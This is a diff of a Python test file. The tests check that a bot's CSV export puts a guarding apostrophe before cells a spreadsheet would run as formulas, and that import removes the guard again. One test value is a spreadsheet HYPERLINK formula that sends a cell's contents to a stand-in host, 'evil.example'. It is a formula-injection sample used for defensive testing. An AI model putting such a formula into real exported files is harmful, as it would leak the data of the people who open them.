@@ -8,13 +8,24 @@ import json
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from sqlalchemy import text
 from sqlmodel import func, select
 
 from bot.db import session_scope
 from bot.models import Role
 from bot.models.practices import Practice, PracticeStatus, ReviewAction
-from bot.practices_io import CSV_HEADER, ImportRefused, export_practices, import_practices
+from bot.practices_io import (
+    CSV_COLUMNS,
+    CSV_HEADER,
+    FORMULA_STARTS,
+    ImportRefused,
+    export_practices,
+    guard_cell,
+    import_practices,
+    unguard_cell,
+)
 from bot.services import Services
 from tests.practices.conftest import add_city, add_member, practice
 
@@ -196,3 +207,66 @@ def test_nothing_is_written_when_something_unexpected_fails(services: Services, 
     assert count(services) == 0
     assert services.practices.search(words="practice", status=None).hits == []
     assert import_practices(services.engine, path).imported == 5
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
+    "summary": "+1 for the welcome desk",
+    "description": "-5% of rumours in a year\n=SUM(A1:A9) inside a cell is harmless",
+    "results": "'=1+1 was typed with its apostrophe",  # an apostrophe that is text, before a formula sign
+    "contact": "@ana_lisbon",
+}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_guarded_and_import_back(
+    services: Services, tmp_path: Path
+) -> None:
+    lisbon = add_city(services, "Lisbon", "PT", "pt")
+    boss = add_member(services, "boss", role=Role.icc_team)
+    services.practices.submit(author=boss, data=practice(lisbon, themes=["youth"], **FORMULAS))
+    services.practices.submit(author=boss, data=practice(lisbon, title="'Quoted' is only text", themes=["youth"]))
+    out = io.StringIO(newline="")
+    assert export_practices(services.engine, "csv", out) == 2
+    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
+    first, second = (dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:])
+    assert first["title"] == "'" + FORMULAS["title"]
+    assert first["summary"] == "'+1 for the welcome desk" and first["contact"] == "'@ana_lisbon"
+    assert first["description"].startswith("'-5% of rumours")
+    assert first["results"] == "''=1+1 was typed with its apostrophe"
+    assert second["title"] == "'Quoted' is only text"  # no formula sign after it: not a guard
+    # Into a database with the same city and no practices: the exact texts come back, and export alike.
+    path = tmp_path / "formulas.csv"
+    path.write_text(out.getvalue(), encoding="utf-8", newline="")
+    with session_scope(services.engine) as session:
+        for table in ("practicereview", "practicetranslation", "practicetheme", "practice"):
+            session.execute(text(f"DELETE FROM {table}"))
+        services.practices.index.clear(session)
+    report = import_practices(services.engine, path)
+    assert (report.imported, report.rejected) == (2, [])
+    with session_scope(services.engine) as session:
+        stored = {p.title: p for p in session.exec(select(Practice))}
+    formula = stored[FORMULAS["title"]]
+    assert {field: getattr(formula, field) for field in FORMULAS} == FORMULAS
+    assert "'Quoted' is only text" in stored
+    again = io.StringIO(newline="")
+    export_practices(services.engine, "csv", again)
+    assert again.getvalue() == out.getvalue()
+
+
+def test_a_guard_put_by_another_tool_is_removed_too(services: Services, tmp_path: Path) -> None:
+    add_city(services, "Lisbon")
+    path = write_csv(tmp_path / "guarded.csv", [row("'@home: housing first", contact="'+351 21 000 0000")])
+    assert import_practices(services.engine, path).imported == 1
+    with session_scope(services.engine) as session:
+        imported = session.exec(select(Practice)).one()
+    assert (imported.title, imported.contact) == ("@home: housing first", "+351 21 000 0000")
+
+
+@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "é"]), max_size=8)
+       | st.text(max_size=20))
+def test_guarding_a_cell_is_undone_exactly(value: str) -> None:
+    guarded = guard_cell(value)
+    assert not guarded.startswith(FORMULA_STARTS)
+    assert unguard_cell(guarded) == value
+    assert guarded in (value, "'" + value)
